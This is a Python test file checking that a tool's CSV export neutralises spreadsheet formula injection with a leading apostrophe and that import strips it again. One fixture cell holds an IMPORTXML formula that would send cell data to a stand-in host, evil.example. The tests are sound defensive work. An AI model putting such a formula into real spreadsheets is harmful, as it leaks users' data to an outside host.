"""Cells a spreadsheet would run as formulas: written after an apostrophe, read back without it.

OWASP's advice against CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is
written with a leading apostrophe, which Google Sheets and Excel take as "this is text". Our
importers take that apostrophe off again, and only that one, so export → import keeps every text.
"""

from __future__ import annotations

from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from explorer.core.casefile import import_into, open_case
from explorer.core.interchange.csv_table import FORMULA_STARTS, formula_safe, formula_text

_CELL = st.text(st.sampled_from("'=+-@\t\r a1\"%"), max_size=6) | st.text(max_size=6)


@given(_CELL)
def test_a_safe_cell_never_starts_a_formula_and_reads_back_as_it_was(text: str) -> None:
    written = formula_safe(text)
    assert written[:1] not in FORMULA_STARTS
    assert formula_text(written) == text


def test_only_the_apostrophe_before_a_formula_start_is_taken_off() -> None:
    assert [formula_text(cell) for cell in ("'=1+1", "'-5%", "'+1", "'@a", "'\tx", "''=x", "'0123", "'tis", "'", "a'=b", "=x")] == [
        "=1+1", "-5%", "+1", "@a", "\tx", "'=x", "'0123", "'tis", "'", "a'=b", "=x"]


def test_a_sheet_and_a_table_read_such_cells_without_the_apostrophe(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(
        "Year,Month,Day,Headline,Text,Group\n"
        "'-500,,,'=IMPORTXML(\"http://evil.example/?q=\"&amp;A1;\"//a\"),<p>x</p>,'@team\n"
        "2001,1,1,'-5%,,'tis\n"
        "2002,1,1,''=kept one,,\n", encoding="utf-8")
    table = tmp_path / "table.csv"
    table.write_text("title,start,body\n'=HYPERLINK(\"x\"),'-0043-03-15,'+1 555\n", encoding="utf-8")
    import_into(sheet, tmp_path / "s.case.db")
    import_into(table, tmp_path / "t.case.db")
    store = open_case(tmp_path / "s.case.db")
    try:
        assert [(str(e.start), e.title, e.category) for e in store.iter_events()] == [
            ("-0499", '=IMPORTXML("http://evil.example/?q="&A1;"//a")', "@team"), ("2001-01-01", "-5%", "'tis"),
            ("2002-01-01", "'=kept one", "")]
    finally:
        store.close()
    store = open_case(tmp_path / "t.case.db")
    try:
        assert [(e.title, str(e.start), e.body) for e in store.iter_events()] == [('=HYPERLINK("x")', "-0043-03-15", "+1 555")]
    finally:
        store.close()
